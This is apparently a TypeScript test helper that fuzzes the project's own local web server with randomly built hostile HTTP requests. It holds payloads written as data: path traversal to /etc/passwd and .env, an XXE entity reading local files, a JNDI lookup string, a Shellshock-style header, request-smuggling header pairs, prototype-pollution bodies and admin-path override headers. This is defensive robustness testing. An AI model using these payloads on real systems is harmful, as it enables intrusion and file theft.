import { hostileFile } from "#tests/support/hostile/pictures";
import type { SeededRandom } from "#tests/support/seeded-random";
import type { Form, Site } from "#tests/support/hostile/site";
import { BROKEN_ESCAPES, hostileText, POLLUTING_NAMES } from "#tests/support/hostile/texts";
import { fillPattern } from "#tests/support/routes";

/** One request, down to its bytes. */
export interface HostileRequest {
  bytes: Buffer;
  isHead: boolean;
  /** The connection ends with it, whatever it announced. */
  closesConnection: boolean;
}

interface Parts {
  method?: string;
  path: string;
  version?: string;
  headers?: [string, string][];
  body?: Buffer;
  cookie?: string;
  cut?: boolean;
}

export function request(
  site: Pick<Site, "port">,
  { method = "GET", path, version = "HTTP/1.1", headers = [], body, cookie, cut = false }: Parts,
): HostileRequest {
  const named = new Set(headers.map(([name]) => name.toLowerCase()));
  const lines = [`${method} ${path} ${version}`];
  if (!named.has("host")) lines.push(`Host: 127.0.0.1:${site.port}`);
  if (cookie && !named.has("cookie")) lines.push(`Cookie: ${cookie}`);
  if (body && !named.has("content-length") && !named.has("transfer-encoding"))
    lines.push(`Content-Length: ${body.length}`);
  for (const [name, value] of headers) lines.push(`${name}: ${value}`);
  // Latin-1, so that a letter of these texts is one byte, also one that no UTF-8 has.
  const head = Buffer.from(`${lines.join("\r\n")}\r\n\r\n`, "latin1");
  return { bytes: body ? Buffer.concat([head, body]) : head, isHead: method === "HEAD", closesConnection: cut };
}

const utf8AsLatin1 = (text: string) => Buffer.from(text).toString("latin1");
/** Anything may stand in a path but what would end it. */
const inPath = (text: string) => utf8AsLatin1(text).replaceAll(/[\s\0]/g, "%20");

/** Picks the session cookie. Mostly anonymous on public pages, because session lookups are expensive. */
function pickCookie(chance: SeededRandom, { cookies }: Site, path: string): string {
  const known = path.includes("1324") ? 33 : 5;
  return chance.happens(known) ? chance.pick([cookies.staff, cookies.staff, cookies.formerStaff]) : cookies.anonymous;
}

/** Most as the router's script asks: to draw a page takes ten times as long, and what reads the request is the same. */
const asDataPath = (chance: SeededRandom, path: string) =>
  chance.happens(96) ? path.replace(/[?#]|$/, ".data$&") : path;

const PATH_TRICKS = [
  "..%2f..%2f..%2fetc/passwd",
  "../../../etc/passwd",
  "..%5c..%5cwindows",
  "%2e%2e/%2e%2e/",
  "..;/1324admin",
  "．．/",
  "%u002e%u002e/",
  "//",
  "/./",
  ";jsessionid=1",
  "%00.html",
  ".data",
  ".data.data",
  "_root.data",
  ".json",
  "?",
  "?index",
  "?_routes=",
  "?_routes=layouts%2Fgate,root,__proto__",
  "#fragment",
  "\\..\\..\\",
  "%23%3f",
  ".git/config",
  ".env",
  "assets/../../server/app.js",
  "assets/office/..%2f..%2f",
  "media/property-images/..%2f..%2fdata",
  "__manifest?p=/1324admin",
  "__manifest?p=%00&version=x",
];

/** The address of a route, with hostile parameters or with tricks around it. */
function hostilePath(chance: SeededRandom, site: Site): string {
  if (chance.happens(8))
    return chance.pick([
      "*",
      "",
      "http://elsewhere.example/",
      "elsewhere.example:443",
      "/%",
      "//elsewhere.example/%2f..",
      `/${"a/".repeat(2_000)}`,
      `/${"x".repeat(7_000)}`,
    ]);
  const { pattern } = chance.pick(site.routes);
  const value = () =>
    inPath(
      chance.pick([
        hostileText(chance).slice(0, 300),
        chance.pick(BROKEN_ESCAPES),
        encodeURIComponent(hostileText(chance).slice(0, 200).toWellFormed()),
        chance.pick(PATH_TRICKS),
      ]),
    );
  const parameters = Object.fromEntries([...pattern.matchAll(/:(\w+)/g)].map(([, name]) => [name!, value()]));
  if (!chance.happens(20)) delete parameters.lang;
  if (chance.happens(30)) parameters.lang = chance.pick(["fr", "ar", "zh", "EN", "xx"]);
  let path = fillPattern(pattern, { ...parameters, "*": value() });
  if (chance.happens(25)) path += chance.pick(PATH_TRICKS);
  path = asDataPath(chance, path);
  if (chance.happens(3)) path = path.replace("/1324admin", "/1324%61dmin").toUpperCase();
  if (chance.happens(5)) path = `/${path}`;
  return path;
}

const QUERY_NAMES = [
  "page",
  "search",
  "q",
  "category",
  "type",
  "status",
  "sort",
  "order",
  "from",
  "to",
  "size",
  "since",
  "currency",
  "max_price",
  "guests",
  "section",
  "id",
  "property",
  "bucket",
  "kind",
  "upload",
  "next",
  "saved",
  "period",
  "language",
  "handled",
  "room",
  "item",
  "user",
  "state",
  "index",
  "_routes",
  "published",
  "owner_email",
];

function hostileQuery(chance: SeededRandom): string {
  const pairs = Array.from({ length: 1 + chance.integerBelow(4) }, () => {
    const name = chance.happens(85) ? chance.pick(QUERY_NAMES) : chance.pick(POLLUTING_NAMES);
    const value = chance.happens(30)
      ? chance.pick(BROKEN_ESCAPES)
      : encodeURIComponent(hostileText(chance).slice(0, 2_000).toWellFormed());
    return `${inPath(encodeURIComponent(name))}=${inPath(value)}`;
  });
  if (chance.happens(3)) pairs.push(..."ab".repeat(500).split(""));
  return pairs.join("&");
}

function pathRequest(chance: SeededRandom, site: Site): HostileRequest {
  const method = chance.pick([
    "GET",
    "GET",
    "GET",
    "HEAD",
    "POST",
    "PUT",
    "DELETE",
    "PATCH",
    "OPTIONS",
    "PROPFIND",
    "TRACE",
    "CONNECT",
    "QUERY",
    "get",
  ]);
  const body = /^(GET|HEAD|CONNECT)$/i.test(method) || chance.happens(10) ? undefined : Buffer.alloc(0);
  const path = hostilePath(chance, site);
  return request(site, { method, path, cookie: pickCookie(chance, site, path), body, cut: method === "CONNECT" });
}

function queryRequest(chance: SeededRandom, site: Site): HostileRequest {
  const { pattern } = chance.pick(site.routes);
  const path = fillPattern(pattern, { id: site.ids.experience, slug: "x", ...(chance.happens(30) && { lang: "sw" }) });
  return request(site, {
    path: `${asDataPath(chance, path)}?${hostileQuery(chance)}`,
    cookie: pickCookie(chance, site, path),
  });
}

const HEADERS: ((chance: SeededRandom) => [string, string][])[] = [
  (chance) => [
    [
      "Host",
      chance.pick([
        "",
        "elsewhere.example",
        "a b",
        "[::1",
        "%00",
        "127.0.0.1:99999",
        "x".repeat(3_000),
        "é.example",
        "a@b",
        "a/b?c#d",
        "localhost:3000@elsewhere.example",
        "xn--a",
      ]),
    ],
  ],
  (chance) => [
    ["Host", "a.example"],
    ["Host", chance.pick(["b.example", "a.example"])],
  ],
  (chance) => [
    ["Cookie", `pemba.session_token=${utf8AsLatin1(hostileText(chance).replaceAll(/[\r\n\0]/g, "")).slice(0, 3_000)}`],
  ],
  (chance) => [
    [
      "Cookie",
      `pemba.${chance.pick(["language", "currency", "notice", "opened", "second_step"])}=${chance.pick([...BROKEN_ESCAPES, "__proto__", "a.b.c", "x".repeat(3_000)])}`,
    ],
  ],
  () => [["Cookie", "a=1; ".repeat(2_000)]],
  () => [["Cookie", "x".repeat(40_000)]],
  (chance) => [["Content-Length", chance.pick(["-1", "abc", "1e3", "99999999999999999999", "+5", "5, 5", "0x10", ""])]],
  () => [
    ["Content-Length", "5"],
    ["Content-Length", "6"],
  ],
  () => [
    ["Content-Length", "5"],
    ["Transfer-Encoding", "chunked"],
  ],
  (chance) => [["Transfer-Encoding", chance.pick(["chunked, identity", "xchunked", "identity", "chunked\x0b"])]],
  (chance) => [
    [
      "Range",
      chance.pick([
        "bytes=0-",
        "bytes=-1",
        "bytes=9999999999999999999999-",
        "bytes=5-1",
        "bytes=0-0,1-1",
        "bytes=abc",
        `bytes=${"0-0,".repeat(500)}`,
        "lines=1-2",
      ]),
    ],
  ],
  (chance) => [
    [
      "Accept-Encoding",
      chance.pick(["br;q=0", "gzip;q=abc", "*", "identity;q=0", "zstd", "br, ".repeat(1_000), "\xff"]),
    ],
  ],
  (chance) => [
    [
      "Accept-Language",
      chance.pick(["*", "fr;q=9", "xx-".repeat(900), ";;;,,,", "\xff\xfe", "fr;q=NaN", "a,".repeat(1_500)]),
    ],
  ],
  (chance) => [
    ["X-Forwarded-For", chance.pick(["' or 1=1", "1.1.1.1, 2.2.2.2", "x".repeat(3_000), "::1"])],
    ["X-Forwarded-Proto", chance.pick(["https", "javascript", "https, http"])],
    ["X-Forwarded-Host", "elsewhere.example"],
    ["Forwarded", "for=_x;host=elsewhere.example"],
  ],
  (chance) => [
    ["Origin", chance.pick(["null", "https://elsewhere.example", "", "x".repeat(2_000), "http://127.0.0.1"])],
    ["Sec-Fetch-Site", chance.pick(["cross-site", "same-site", "x"])],
  ],
  (chance) => [["Referer", chance.pick(["http://", "::", "javascript:alert(1)", "http://[::1", "x".repeat(3_000)])]],
  (chance) => [["Accept", chance.pick(["*/*;q=x", "application/json", "text/x-script", ",".repeat(2_000)])]],
  (chance) => [
    ["If-None-Match", chance.pick(["*", "W/", '"'.repeat(3_000)])],
    ["If-Modified-Since", "never"],
  ],
  () => [["Expect", "100-continue"]],
  () => [["Expect", "the unexpected"]],
  () => [
    ["Upgrade", "websocket"],
    ["Connection", "Upgrade"],
  ],
  () => [
    ["Upgrade", "h2c"],
    ["Connection", "Upgrade, HTTP2-Settings"],
    ["HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"],
  ],
  (chance) => [
    [
      "User-Agent",
      chance.pick(["", "\xff\x01".repeat(300), "() { :; }; /bin/true", "${jndi:ldap://elsewhere.example/a}"]),
    ],
  ],
  (chance) => Array.from({ length: 150 }, (_, n): [string, string] => [`X-${n}`, chance.pick(["", "a"])]),
  () => [
    ["X-HTTP-Method-Override", "DELETE"],
    ["X-Original-URL", "/1324admin"],
    ["X-Rewrite-URL", "/1324admin"],
  ],
  () => [
    ["__proto__", "x"],
    ["constructor", "y"],
  ],
  () => [["Bad Name", "x"]],
  () => [["X-Injected", "a\r\n b"]],
  () => [
    ["Save-Data", "on"],
    ["Purpose", "prefetch"],
  ],
];

function headerRequest(chance: SeededRandom, site: Site): HostileRequest {
  const path = chance.pick([
    `${fillPattern(chance.pick(site.routes).pattern, { id: site.ids.experience })}.data`,
    "/contact",
    "/contact.data",
    "/readyz",
    "/healthz",
    site.picture,
    "/assets/nothing.js",
    "/scenes/white-beach-480.webp",
    "/1324admin/live.data",
  ]);
  const method = chance.pick(["GET", "GET", "GET", "HEAD", "POST"]);
  const headers = chance.pick(HEADERS)(chance);
  const cookie = pickCookie(chance, site, path);
  // Of a request whose length is in doubt nothing more may be sent on the same connection.
  const cut = headers.some(([name]) => /^(content-length|transfer-encoding|expect|upgrade)$/i.test(name));
  return request(site, {
    method,
    path,
    headers,
    cookie: headers.some(([name]) => name === "Cookie") ? undefined : cookie,
    version: chance.happens(4) ? chance.pick(["HTTP/1.0", "HTTP/9.9", "HTTX/1.1"]) : "HTTP/1.1",
    cut,
  });
}

/** The fields of a form, of which one or more are not what they should be. */
function mutateFields(chance: SeededRandom, { fields }: Form): [string, string][] {
  const pairs: [string, string][] = Object.entries(fields);
  for (let n = 1 + chance.integerBelow(3); n > 0 && pairs.length > 0; n--) {
    const at = chance.integerBelow(pairs.length);
    const name = pairs[at]![0];
    switch (chance.integerBelow(5)) {
      case 0:
        pairs.splice(at, 1);
        break;
      case 1:
        pairs.push([name, hostileText(chance)]);
        break;
      default:
        pairs[at] = [name, hostileText(chance)];
    }
  }
  if (chance.happens(15))
    pairs.push([
      chance.pick([...POLLUTING_NAMES, "id", "status", "created_at", "published", "user_id", "read"]),
      hostileText(chance),
    ]);
  return pairs;
}

export const BOUNDARY = "----pembaboundary";

export function multipart(pairs: [string, string | Buffer][]): Buffer {
  const parts = pairs.map(([name, value]) => {
    const file = typeof value === "string" ? "" : '; filename="../../a.jpg"\r\nContent-Type: image/jpeg';
    return Buffer.concat([
      Buffer.from(
        `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name.replaceAll(/["\r\n]/g, "_")}"${file}\r\n\r\n`,
      ),
      Buffer.from(value as string),
      Buffer.from("\r\n"),
    ]);
  });
  return Buffer.concat([...parts, Buffer.from(`--${BOUNDARY}--\r\n`)]);
}

export const urlencoded = (pairs: [string, string][]) =>
  Buffer.from(
    new URLSearchParams(pairs.map(([name, value]) => [name.toWellFormed(), value.toWellFormed()])).toString(),
  );

function formRequest(chance: SeededRandom, site: Site): HostileRequest {
  const drawn = chance.pick(site.forms);
  const form = drawn.hashesPassword && chance.happens(80) ? chance.pick(site.forms) : drawn;
  const cookie = pickCookie(chance, site, form.path);
  const path = `${asDataPath(chance, form.path)}${form.query ?? ""}`;
  const pairs = mutateFields(chance, form);
  const isMultipart = chance.happens(25);
  const withFile: [string, string | Buffer][] = chance.happens(30)
    ? [...pairs, [chance.pick(["files", "file", "title"]), hostileFile(chance)]]
    : pairs;
  return request(site, {
    method: chance.happens(95) ? "POST" : chance.pick(["PUT", "PATCH", "DELETE"]),
    path,
    cookie,
    headers: [
      ["Content-Type", isMultipart ? `multipart/form-data; boundary=${BOUNDARY}` : "application/x-www-form-urlencoded"],
    ],
    body: isMultipart ? multipart(withFile) : urlencoded(pairs),
  });
}

const BODIES: ((chance: SeededRandom) => { type: string; body: Buffer; headers?: [string, string][] })[] = [
  () => ({ type: "application/json", body: Buffer.from('{"intent":"delete"}') }),
  () => ({ type: "application/json", body: Buffer.from("[".repeat(20_000)) }),
  () => ({ type: "application/json", body: Buffer.from('{"__proto__":{"role":"admin"}}') }),
  () => ({ type: "text/plain", body: Buffer.from("intent=delete") }),
  () => ({ type: "", body: Buffer.from("a=b") }),
  () => ({
    type: "application/xml",
    body: Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
  }),
  () => ({ type: "multipart/form-data", body: Buffer.from("--x\r\n") }),
  () => ({ type: "multipart/form-data; boundary=", body: Buffer.from("----\r\n") }),
  () => ({ type: `multipart/form-data; boundary=${"x".repeat(300)}`, body: Buffer.from("--x") }),
  () => ({
    type: `multipart/form-data; boundary=${BOUNDARY}`,
    body: multipart([["intent", "delete"]]).subarray(0, 60),
  }),
  () => ({
    type: `multipart/form-data; boundary=${BOUNDARY}`,
    body: Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data\r\n\r\nx\r\n--${BOUNDARY}--`),
  }),
  () => ({
    type: `multipart/form-data; boundary=${BOUNDARY}`,
    body: Buffer.from(
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="a"; filename*=utf-8''%00%ff\r\nContent-Type: \0\r\n\r\nx\r\n--${BOUNDARY}--`,
    ),
  }),
  (chance) => ({ type: `multipart/form-data; boundary=${BOUNDARY}`, body: chance.bytes(500) }),
  (chance) => ({ type: "application/x-www-form-urlencoded", body: chance.bytes(500) }),
  (chance) => ({
    type: "application/x-www-form-urlencoded",
    body: Buffer.from(`a=${chance.pick(BROKEN_ESCAPES)}&${chance.pick(BROKEN_ESCAPES)}=b`, "latin1"),
  }),
  () => ({ type: "application/x-www-form-urlencoded", body: Buffer.from("a=1&".repeat(15_000)) }),
  () => ({ type: "application/x-www-form-urlencoded", body: Buffer.from(`${"a[b]".repeat(10_000)}=1`) }),
  () => ({ type: "application/x-www-form-urlencoded; charset=utf-16", body: Buffer.from("a=b", "utf16le") }),
  () => ({ type: "application/x-www-form-urlencoded", body: Buffer.alloc(70_000, "a") }),
  () => ({
    type: "application/x-www-form-urlencoded",
    body: Buffer.from("a=b"),
    headers: [["Content-Encoding", "gzip"]],
  }),
  () => ({ type: "text/x-script", body: Buffer.from('[{"_1":2},"__proto__","x"]') }),
];

function bodyRequest(chance: SeededRandom, site: Site): HostileRequest {
  const path = chance.happens(50)
    ? chance.pick(site.forms).path
    : fillPattern(chance.pick(site.routes).pattern, { id: site.ids.experience });
  const { type, body, headers = [] } = chance.pick(BODIES)(chance);
  const all: [string, string][] = [...(type ? ([["Content-Type", type]] as [string, string][]) : []), ...headers];
  const parts = {
    method: chance.pick(["POST", "POST", "POST", "PUT", "PATCH", "DELETE"]),
    path: asDataPath(chance, path),
    cookie: pickCookie(chance, site, path),
  };
  if (chance.happens(15))
    return request(site, {
      ...parts,
      headers: [...all, ["Transfer-Encoding", "chunked"]],
      body: chunked(chance, body),
      cut: true,
    });
  if (chance.happens(10))
    return request(site, {
      ...parts,
      headers: [...all, ["Content-Length", String(body.length + 100)]],
      body,
      cut: true,
    });
  return request(site, { ...parts, headers: all, body });
}

function chunked(chance: SeededRandom, body: Buffer): Buffer {
  const length = chance.pick([
    body.length.toString(16),
    "zz",
    "-1",
    "ffffffffffffffff",
    (body.length + 7).toString(16),
  ]);
  return Buffer.concat([Buffer.from(`${length}\r\n`), body, Buffer.from(chance.pick(["\r\n0\r\n\r\n", "\r\n", ""]))]);
}

function uploadRequest(chance: SeededRandom, site: Site): HostileRequest {
  const isVisitor = chance.happens(50);
  const query = chance.happens(80)
    ? `bucket=${chance.pick(["experience-media", "blog-media", "property-images"])}&kind=${chance.pick(["image", "video", "og", "thumbnail"])}`
    : hostileQuery(chance);
  const body = hostileFile(chance);
  const isTorn = chance.happens(10);
  return request(site, {
    method: chance.happens(95) ? "POST" : "PUT",
    path: isVisitor ? "/media/property-images" : `/1324admin/media?${query}`,
    cookie: isVisitor
      ? site.cookies.anonymous
      : chance.pick([site.cookies.staff, site.cookies.staff, site.cookies.formerStaff]),
    headers: [
      [
        "Content-Type",
        chance.pick(["image/jpeg", "image/png", "text/html", "image/svg+xml", "video/mp4", "application/octet-stream"]),
      ],
      ...(isTorn ? ([["Content-Length", String(body.length + 10)]] as [string, string][]) : []),
    ],
    body,
    cut: isTorn,
  });
}

const TUS_HEADERS: ((chance: SeededRandom) => [string, string])[] = [
  (chance) => ["Upload-Length", chance.pick(["0", "5", "-1", "abc", "99999999999999", "1e9", "", "NaN"])],
  (chance) => ["Upload-Offset", chance.pick(["0", "-1", "5", "abc", "99999999999999"])],
  (chance) => [
    "Upload-Metadata",
    chance.pick(["filename ///", "a b c", "filename Li4vLi4veA==", ",,,", "__proto__ YQ==", "é YQ=="]),
  ],
  (chance) => ["Upload-Defer-Length", chance.pick(["1", "2", "x"])],
  (chance) => ["Upload-Concat", chance.pick(["partial", "final;/a /b", "final;../../x"])],
  (chance) => ["Upload-Checksum", chance.pick(["md5 x", "sha1 ///", "none"])],
  (chance) => ["Content-Type", chance.pick(["application/offset+octet-stream", "text/html"])],
  (chance) => ["X-HTTP-Method-Override", chance.pick(["PATCH", "DELETE", "TRACE"])],
];

function tusRequest(chance: SeededRandom, site: Site): HostileRequest {
  const id = chance.pick([
    "",
    "",
    "/0123456789abcdef0123456789abcdef",
    "/..%2f..%2fdata",
    `/${"a".repeat(32)}.json`,
    "/%00",
    "/a/b",
  ]);
  const headers = new Map<string, string>(
    Array.from({ length: chance.integerBelow(5) }, () => chance.pick(TUS_HEADERS)(chance)),
  );
  if (chance.happens(85)) headers.set("Tus-Resumable", chance.happens(90) ? "1.0.0" : "9.9");
  const hasBody = chance.happens(50);
  return request(site, {
    method: chance.pick(["POST", "PATCH", "HEAD", "DELETE", "OPTIONS", "GET"]),
    path: `/1324admin/media/tus${id}`,
    cookie: chance.pick([site.cookies.staff, site.cookies.staff, site.cookies.formerStaff]),
    headers: [...headers],
    body: hasBody ? chance.bytes(chance.integerBelow(50)) : undefined,
  });
}

function streamRequest(chance: SeededRandom, site: Site): HostileRequest {
  const path = chance.pick([
    "/1324admin/live",
    "/1324admin/live.data",
    "/1324admin/news",
    "/1324admin/customers/export.csv",
    "/1324admin/bookings/export.csv",
    "/1324admin/search.json",
  ]);
  return request(site, {
    path: `${path}?${hostileQuery(chance)}`,
    cookie: pickCookie(chance, site, path),
    headers: [
      [
        "Last-Event-ID",
        utf8AsLatin1(hostileText(chance))
          .slice(0, 500)
          .replaceAll(/[\r\n\0]/g, ""),
      ],
    ],
    cut: chance.happens(20),
  });
}

const NOISE: ((chance: SeededRandom) => string)[] = [
  (chance) => chance.bytes(1 + chance.integerBelow(200)).toString("latin1"),
  () => "\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03",
  () => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  () => "GET\r\n\r\n",
  () => "GET / HTTP/1.1\nHost: a\n\n",
  () => "GET /\0 HTTP/1.1\r\nHost: a\r\n\r\n",
  () => "GET / HTTP/1.1\r\nHost : a\r\n\r\n",
  () => "GET / HTTP/1.1\r\nHost: a\r\n Folded: b\r\n\r\n",
  () => "GET / HTTP/1.1\r\n: nameless\r\n\r\n",
  () => "POST /contact HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1;ext=\n\r\nx",
  (chance) => `${"A".repeat(1 + chance.integerBelow(9_000))} / HTTP/1.1\r\nHost: a\r\n\r\n`,
  (chance) =>
    `GET /${chance.pick(BROKEN_ESCAPES)}${"%41".repeat(chance.integerBelow(6_000))} HTTP/1.1\r\nHost: a\r\n\r\n`,
];

/** Hardly HTTP any more. Nothing can follow it. */
function noiseRequest(chance: SeededRandom): HostileRequest {
  return { bytes: Buffer.from(chance.pick(NOISE)(chance), "latin1"), isHead: false, closesConnection: true };
}

/** What the requests are made of, with how many of a hundred are of each kind. */
const KINDS: [number, (chance: SeededRandom, site: Site) => HostileRequest][] = [
  [13, pathRequest],
  [5, queryRequest],
  [27, headerRequest],
  [16, formRequest],
  [13, bodyRequest],
  [2, uploadRequest],
  [4, tusRequest],
  [4, streamRequest],
  [16, noiseRequest],
];

export function hostileRequest(chance: SeededRandom, site: Site): HostileRequest {
  let at = chance.integerBelow(100);
  for (const [share, make] of KINDS) {
    if (at < share) return make(chance, site);
    at -= share;
  }
  return pathRequest(chance, site);
}
